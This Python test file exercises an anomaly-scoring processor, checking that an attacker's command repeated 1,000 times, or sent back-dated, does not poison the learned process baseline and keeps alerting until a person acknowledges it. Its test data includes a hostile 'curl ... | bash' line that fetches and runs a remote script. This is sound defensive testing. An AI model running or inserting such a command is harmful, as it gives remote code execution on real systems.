"""Baseline poisoning: an attacker who repeats their command 1,000 times in a minute must not teach the
baseline that it is normal. Every repetition stays at alert, through a restart of the scorer, until a
person acknowledges the pattern. Real scoring engine and LanceDB, through the anomaly processor as the
receiver runs it."""

from __future__ import annotations

import time
from pathlib import Path

from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest

from core.confmap import decode
from core.event import ProcessEvent
from otlp_receiver.component import CreateSettings, LogBatch
from otlp_receiver.processors.anomaly import factory
from otlp_receiver.processors.anomaly.processor import AnomalyProcessor
from otlp_receiver.telemetry import Telemetry
from testing.otlp_values import key_values

ATTACK = ("sh", "sh -c curl -s http://203.0.113.9/x.sh | bash", "php-fpm8.2")
ROUTINE = [("php-fpm8.2", "php-fpm: pool www", "php-fpm8.2"), ("nginx", "nginx -g daemon off;", "systemd"),
           ("logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", "cron"), ("gzip", "gzip -9 access.log.1", "sh")]


def batch(commands: list[tuple[str, str, str]], start: float, spacing: float) -> LogBatch:
    request = ExportLogsServiceRequest()
    resource_logs = request.resource_logs.add()
    resource_logs.resource.attributes.extend(key_values({"host.name": "web-1", "procsight.workload": "shop",
                                                         "service.name": "procsight-agent"}))
    scope = resource_logs.scope_logs.add()
    for index, (name, line, parent) in enumerate(commands):
        record = scope.log_records.add(event_name="process.exec", severity_number=9,
                                       time_unix_nano=int((start + index * spacing) * 1e9))
        record.body.string_value = line
        record.attributes.extend(key_values({"process.executable.name": name, "process.command_line": line,
                                             "process.parent.executable.name": parent, "process.pid": 4000 + index,
                                             "process.user.id": 33}))
    return LogBatch(logs=request, tenant="default", batch_id="poison")


def severities(scored: LogBatch) -> list[str]:
    return [next(kv.value.string_value for kv in record.attributes if kv.key == "anomaly_severity")
            for record in scored.logs.resource_logs[0].scope_logs[0].log_records]


def processor(baselines: Path) -> AnomalyProcessor:
    config = decode(factory.Config, {"baselines": str(baselines), "separate_process": False})
    created = factory.create(config, CreateSettings("anomaly", baselines, Telemetry()))
    created.start()
    return created


def test_an_attack_repeated_1000_times_in_a_minute_stays_at_alert_until_acknowledged(tmp_path: Path) -> None:
    baselines = tmp_path / "baselines"
    scorer = processor(baselines)
    now = time.time() - 3600
    try:
        scorer.process(batch(ROUTINE * 100, now - 7200, 1.0))  # a learned, ordinary workload
        attack_severities: list[str] = []
        for second in range(60):  # 1,000 repetitions within one minute, amid routine commands
            repeats = 17 if second < 40 else 16
            scored = scorer.process(batch([ATTACK] * repeats + ROUTINE, now + second, 1.0 / (repeats + 4)))
            attack_severities += severities(scored)[:repeats]
        assert len(attack_severities) == 1000
        assert set(attack_severities) == {"alert"}, sorted(set(attack_severities))
    finally:
        scorer.shutdown()

    restarted = processor(baselines)  # the learning of that minute was flushed; the attack is still not normal
    try:
        assert severities(restarted.process(batch([ATTACK], now + 61, 1.0))) == ["alert"]
        assert restarted.scorer is not None
        restarted.scorer.engine.acknowledge(
            ProcessEvent(executable_name=ATTACK[0], command_line=ATTACK[1], parent_name=ATTACK[2], user_id=33,
                         timestamp=now + 62), tenant="default", workload="shop")
        assert severities(restarted.process(batch([ATTACK], now + 63, 1.0))) == ["none"]
    finally:
        restarted.shutdown()


def test_copies_of_an_attack_back_dated_an_hour_apart_do_not_teach_the_baseline(tmp_path: Path) -> None:
    """The hold-back counts distinct hours. By the senders' own times, three copies dated 3 h, 2 h and 1 h
    ago, sent in one request, earned the attack a place in the baseline (found attacking a live receiver);
    the receiver counts by when it took them in."""
    scorer = processor(tmp_path / "baselines")
    now = time.time()
    try:
        scorer.process(batch(ROUTINE * 100, now - 4 * 3600 - 500, 1.0))
        assert severities(scorer.process(batch([ATTACK] * 3, now - 3 * 3600, 3600.0))) == ["alert"] * 3
        assert severities(scorer.process(batch([ATTACK], now, 1.0))) == ["alert"]
    finally:
        scorer.shutdown()
